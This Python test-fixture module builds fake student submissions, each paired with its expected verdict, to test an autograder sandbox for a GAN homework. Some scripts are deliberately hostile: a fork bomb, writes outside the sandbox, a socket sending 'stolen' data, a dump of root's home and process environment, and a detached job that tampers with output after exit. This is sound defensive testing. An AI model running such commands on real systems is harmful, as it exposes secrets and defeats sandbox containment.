"""A class of generated submissions, one per way a real one goes wrong, with the verdict each must get.

Good submissions draw procedural faces (cgan.data.synth_faces, copied into the submission so it needs nothing of
the grader's files) for the tags they are given, one seed per line id: deterministic, with the right
colours. The others break one thing each.
"""

from __future__ import annotations

import json
import shutil
import textwrap
import zlib
from pathlib import Path

import numpy as np

from cgan.core.images import make_grid, png_bytes
from cgan.course.tags import read_testing_tags
from cgan.data.synth_faces import draw_face

ROOT = Path(__file__).resolve().parent.parent

GEN = """\
import sys
import numpy as np
from PIL import Image
from cgan.data.synth_faces import draw_face
from cgan.course.tags import read_testing_tags

def grid(tags, seed_of):
    imgs = [draw_face(t.hair, t.eyes, np.random.RandomState(seed_of(t))) for t in tags]
    g = np.zeros((64 * ((len(imgs) + 4) // 5), 320, 3), np.uint8)
    for i, im in enumerate(imgs):
        r, c = divmod(i, 5)
        g[r * 64:(r + 1) * 64, c * 64:(c + 1) * 64] = im
    return g

if __name__ == "__main__":
    tags = read_testing_tags(sys.argv[1])
    {seed}
    {save}
"""

# gen.py TAGS [OUT]: the grid for TAGS, written to OUT (default samples/cgan.png).
OUT = 'out = sys.argv[2] if len(sys.argv) > 2 else "samples/cgan.png"; '
TIGHT = OUT + 'Image.fromarray(grid(tags, seed_of)).save(out)'
# The course's save_imgs() figure (matplotlib's 640x480 RGBA canvas), as most students submitted.
CANVAS = (OUT + "from cgan.evaluation.layouts import course_canvas; "
          "imgs = grid(tags, seed_of).reshape(5, 64, 5, 64, 3).swapaxes(1, 2).reshape(25, 64, 64, 3); "
          "Image.fromarray(course_canvas(imgs)).save(out)")

# Each student's faces differ (an offset on the seeds), as two students' models would.
DETERMINISTIC = "seed_of = lambda t: int(t.id) + {offset}"
RANDOM = "import os; r = int.from_bytes(os.urandom(4), 'little'); seed_of = lambda t: (int(t.id) + r) % 2**32"


def student_offset(name: str) -> int:
    return zlib.crc32(name.encode()) % 100_000 * 100


def expected_grid(tags_file: Path, canvas: bool = False, offset: int = 0) -> bytes:
    tags = read_testing_tags(tags_file)
    imgs = np.stack([draw_face(t.hair, t.eyes, np.random.RandomState(int(t.id) + offset)) for t in tags])
    if canvas:
        from cgan.evaluation.layouts import course_canvas
        return png_bytes(course_canvas(imgs))
    return png_bytes(make_grid(imgs))


def _submission(root: Path, name: str, run_sh: str, tags_file: Path, gen_seed: str | None = DETERMINISTIC,
                original: bytes | None = None, report: bool = True, canvas: bool = False,
                offset: int | None = None, script: str = "run_cgan.sh", original_name: str = "cgan_original.png") -> Path:
    """One student folder; with `script` another part's (run_gan.sh, extra_run.sh) is written into an
    existing folder. `offset`: the seeds' offset (default: from the name)."""
    d = root / name
    offset = student_offset(name) if offset is None else offset
    if not d.exists():
        (d / "samples").mkdir(parents=True)
        shutil.copytree(ROOT / "cgan", d / "cgan", ignore=shutil.ignore_patterns("__pycache__"))
        if gen_seed is not None:
            gen = GEN.replace("{seed}", gen_seed.replace("{offset}", str(offset)))
            (d / "gen.py").write_text(gen.replace("{save}", CANVAS if canvas else TIGHT))
        if report:
            (d / "report.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
    if run_sh:
        (d / script).write_text(textwrap.dedent(run_sh))
    if original_name:
        (d / "samples" / original_name).write_bytes(original if original is not None
                                                    else expected_grid(tags_file, canvas, offset))
    return d


def build_class(root: Path, tags_file: Path, outside: Path, port: int, with_repo: bool = True) -> dict[str, dict]:
    """Write the submissions under `root`; returns name -> what the grader must find.

    `outside` is a folder the hostile ones try to write into; `port` a local TCP port they try to reach.
    With `with_repo`, one submission is this repository itself (its run_cgan.sh and bundled model).
    """
    root.mkdir(parents=True, exist_ok=True)
    gen = "python gen.py \"$1\"\n"
    cases: dict[str, tuple[str, dict, dict]] = {
        "good": (gen, {}, {"verdict": "ok", "reproduce": "identical", "points_reproduce": 2}),
        "course_canvas": (gen, {"canvas": True}, {"verdict": "ok", "reproduce": "identical", "points_reproduce": 2,
                                                  "format_ok": False, "scorable": True}),
        "nondeterministic": (gen, {"gen_seed": RANDOM}, {"verdict": "not reproducible", "reproduce": "different"}),
        "wrong_size": ("python -c \"from PIL import Image; Image.new('RGB', (256, 256), 'red').save('samples/cgan.png')\"\n",
                       {}, {"verdict": "bad format"}),
        "no_output": ("echo 'training skipped'\n", {}, {"verdict": "no output"}),
        "crashes": ("python -c 'import torch; raise SystemExit(\"CUDA error: no kernel image\")'\nexit 1\n", {},
                    {"verdict": "crash"}),
        "sleeps": ("sleep 1000\n" + gen, {}, {"verdict": "timeout"}),
        "forks": ("""\
            python - <<'EOF'
            import os, time
            n = 0
            try:
                for _ in range(100000):
                    if os.fork() == 0:
                        time.sleep(600)
                        os._exit(0)
                    n += 1
            except OSError as e:
                print("fork stopped after", n, "children:", e)
            EOF
            """, {}, {"verdict": "no output"}),  # leaves its sleeping children behind for the sandbox to end
        "huge_file": ("set -e\nhead -c 4000000000 /dev/zero > samples/huge.bin\n" + gen, {},
                      {"verdict": "crash"}),
        "writes_outside": (f"""\
            echo pwned > {outside}/pwned.txt
            echo pwned > {ROOT}/pwned.txt
            echo pwned > /tmp/pwned.txt
            """ + gen, {}, {"verdict": "ok"}),
        "network": (f"""\
            python - <<'EOF'
            import socket
            try:
                socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
                print("connected")
            except OSError as e:
                print("no network:", e)
            EOF
            """ + gen, {}, {"verdict": "ok"}),
        "absolute_paths": ("mkdir -p /home/student/hw3/samples && cd /home/student/hw3 && python gen.py \"$1\"\n", {},
                           {"verdict": "crash"}),
        "reads_others": (f"""\
            if cat {root}/good/run_cgan.sh || cat ../good/run_cgan.sh; then exit 3; fi
            """ + gen, {}, {"verdict": "ok"}),
        "not_png": ("echo 'not an image' > samples/cgan.png\n", {}, {"verdict": "bad format"}),
        "downloads": ("set -e\npython -c \"import urllib.request; "
                      "urllib.request.urlopen('http://models.invalid/cgan.pt', timeout=5)\"\n" + gen, {},
                      {"verdict": "needs network"}),
        "no_script": ("", {}, {"verdict": "missing files"}),
    }
    expected = {}
    for name, (script, kw, want) in cases.items():
        _submission(root, name, script, tags_file, **kw)
        expected[name] = want
    if with_repo:
        # Its committed original was made for hw3/testing_tags.txt; the grader may run other tags.
        same = tags_file.read_bytes() == (ROOT / "hw3" / "testing_tags.txt").read_bytes()
        repo_submission(root, "this_repo")
        expected["this_repo"] = ({"verdict": "ok", "reproduce": "identical", "points_reproduce": 2} if same
                                 else {"verdict": "not reproducible"})
        # A student who picked another seed and made their original with it, for these tags.
        repo_submission(root, "this_repo_seed7", tags_file, seed=7)
        expected["this_repo_seed7"] = {"verdict": "ok", "reproduce": "identical", "points_reproduce": 2}
    return expected


def repo_submission(root: Path, name: str, tags_file: Path | None = None, seed: int = 0,
                    model_url: str | None = None) -> Path:
    """This repository as a student hands it in: run_cgan.sh on the release model.

    With `seed`, run_cgan.sh uses that seed and the student's original is made again for `tags_file`
    (as the student did on their own machine, outside the grader). With `model_url`, the bundled
    checkpoint is left out and the manifest points there: run_cgan.sh downloads it (sha256-checked)
    at run time, as the course allowed for big files.
    """
    from click.testing import CliRunner

    from cgan.cli import cli

    from helpers import tracked_copy

    d = tracked_copy(root / name)
    (d / "report.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
    if seed != 0:
        script = d / "run_cgan.sh"
        text = script.read_text()
        assert "--seed 0 " in text
        script.write_text(text.replace("--seed 0 ", f"--seed {seed} "))
        r = CliRunner().invoke(cli, ["generate", str(tags_file), "--ckpt", str(d / "release" / "cgan.pt"),
                                     "--seed", str(seed), "-o", str(d / "samples" / "cgan_original.png")])
        assert r.exit_code == 0, r.output
    if model_url is not None:
        manifest = d / "release" / "manifest.json"
        data = json.loads(manifest.read_text())
        (d / data["entries"]["cgan"]["bundled"]).unlink()
        data["entries"]["cgan"]["url"] = model_url
        manifest.write_text(json.dumps(data, indent=2) + "\n")
    return d


GAN = 'python gen.py testing_tags.txt samples/gan.png\n'
CGAN = 'python gen.py "$1"\n'
EXTRA_OK = ("python -c \"from PIL import Image; import numpy as np; "
            "Image.fromarray(np.full((64, 384, 3), 128, np.uint8)).save('samples/transfer.png')\"\n")
DOWNLOAD = "python -c \"import urllib.request; urllib.request.urlopen('http://models.invalid/m.pt', timeout=5)\"\n"
RESIZED = ("python -c \"from PIL import Image; import sys; Image.open('samples/gan_big.png')"
           ".resize((256, 256)).save('samples/gan.png')\"\n")


def build_three_part_class(root: Path, tags_file: Path) -> dict[str, dict]:
    """Students with all three parts, each part of each breaking in its own way; returns name -> the
    verdict per part ('-' where the part's script is left out on purpose: missing files)."""
    cases = {  # name: (run_gan.sh, run_cgan.sh, extra_run.sh), None = not handed in
        "all_good": (GAN, CGAN, EXTRA_OK),
        "no_gan": (None, CGAN, EXTRA_OK),
        "gan_random": (GAN, CGAN, "echo 'no time for the bonus'\n"),
        "gan_resized": (GAN.replace("gan.png", "gan_big.png") + RESIZED, CGAN, "exit 1\n"),
        "gan_crash": ("python -c 'raise SystemExit(3)'\n", CGAN, DOWNLOAD),
        "gan_sleeps": ("sleep 1000\n", CGAN, "sleep 1000\n"),
        "gan_downloads": ("set -e\n" + DOWNLOAD + GAN, CGAN, None),
        "gan_silent": ("echo 'trained, forgot to save'\n", CGAN, EXTRA_OK),
    }
    verdicts = {
        "all_good": ("ok", "ok", "ok"), "no_gan": ("missing files", "ok", "ok"),
        "gan_random": ("not reproducible", "ok", "no output"), "gan_resized": ("bad format", "ok", "crash"),
        "gan_crash": ("crash", "ok", "needs network"), "gan_sleeps": ("timeout", "ok", "timeout"),
        "gan_downloads": ("needs network", "ok", "missing files"), "gan_silent": ("no output", "ok", "ok"),
    }
    for name, (gan, cgan, extra) in cases.items():
        _submission(root, name, cgan, tags_file)
        if name == "gan_random":  # only its GAN part draws new noise each run
            (root / name / "gen_gan.py").write_text(
                GEN.replace("{seed}", RANDOM).replace("{save}", TIGHT))
            gan = gan.replace("gen.py", "gen_gan.py")
        if gan is not None:
            _submission(root, name, gan, tags_file, script="run_gan.sh", original_name="gan_original.png",
                        original=expected_grid(tags_file, offset=student_offset(name))
                        if name != "gan_resized" else _resized(tags_file, name))
        if extra is not None:
            _submission(root, name, extra, tags_file, script="extra_run.sh", original_name="")
    return {k: dict(zip(("gan", "cgan", "extra"), v)) for k, v in verdicts.items()}


def _resized(tags_file: Path, name: str) -> bytes:
    """The 256x256 grid that student commits (and reproduces exactly): 51x51 px tiles."""
    import io

    from PIL import Image

    im = Image.open(io.BytesIO(expected_grid(tags_file, offset=student_offset(name)))).resize((256, 256))
    buf = io.BytesIO()
    im.save(buf, format="PNG")
    return buf.getvalue()


def share_checkpoint(root: Path, a: str, b: str, size: int = 3 * 2**20) -> None:
    """Two students hand in the same large file (one checkpoint, two names)."""
    blob = np.random.RandomState(7).bytes(size)
    (root / a / "model.bin").write_bytes(blob)
    (root / b / "ckpt").mkdir(exist_ok=True)
    (root / b / "ckpt" / "generator.bin").write_bytes(blob)


# Hostile HW3-2 submissions: each writes a grid the grader must not take at face value.
HOSTILE = {
    # The right grid on time, then a detached job (double fork, own session) empties it after the script ended.
    "post_exit_rewriter": ('python gen.py "$1"\n(setsid bash -c "sleep 1; : > samples/cgan.png" &) &\n',
                           {"verdict": "ok", "reproduce": "identical"}),
    # Its hidden colours are the original's, but every pixel is fully transparent: a viewer shows nothing.
    "transparent_grid": ('python gen.py "$1"\npython -c "from PIL import Image; im = Image.open(\'samples/cgan.png\')'
                         '.convert(\'RGBA\'); im.putalpha(0); im.save(\'samples/cgan.png\')"\n',
                         {"verdict": "bad format"}),
    # Hunts the grader's home, caches and environment, and prints what it finds into its log.
    "home_hunter": ('ls -a ~root ~root/.cache; cat /proc/1/environ; env\n'
                    'python gen.py "$1"\n', {"verdict": "ok"}),
    # A 600 MB (sparse) checkpoint saved beside the grid, after it and before it: the grid is still graded.
    "checkpoint_after": ('python gen.py "$1"\ntruncate -s 600M samples/model.ckpt\n',
                         {"verdict": "ok", "reproduce": "identical"}),
    "checkpoint_before": ('truncate -s 600M samples/a_model.ckpt\npython gen.py "$1"\n',
                          {"verdict": "ok", "reproduce": "identical"}),
}


def build_hostile_class(root: Path, tags_file: Path) -> dict[str, dict]:
    """`good` and the HOSTILE submissions under `root`; returns name -> what the grader must find."""
    _submission(root, "good", 'python gen.py "$1"\n', tags_file)
    for name, (script, _) in HOSTILE.items():
        _submission(root, name, script, tags_file)
    return {"good": {"verdict": "ok", "reproduce": "identical"}, **{n: want for n, (_, want) in HOSTILE.items()}}


def build_slow_class(root: Path, tags_file: Path, token: str) -> Path:
    """amy and ben (good) and slow, which sleeps while its folder holds a file named `slow`: a task to stop
    mid-run. Its sleep is named `token` (a test finds it by that, never by a machine-wide pattern). Returns
    that file (remove it and slow grades like the others)."""
    for name in ("amy", "ben"):
        _submission(root, name, 'python gen.py "$1"\n', tags_file)
    _submission(root, "slow", f'if [ -f slow ]; then (exec -a {token} sleep 1000); fi\npython gen.py "$1"\n', tags_file)
    flag = root / "slow" / "slow"
    flag.write_text("")
    return flag
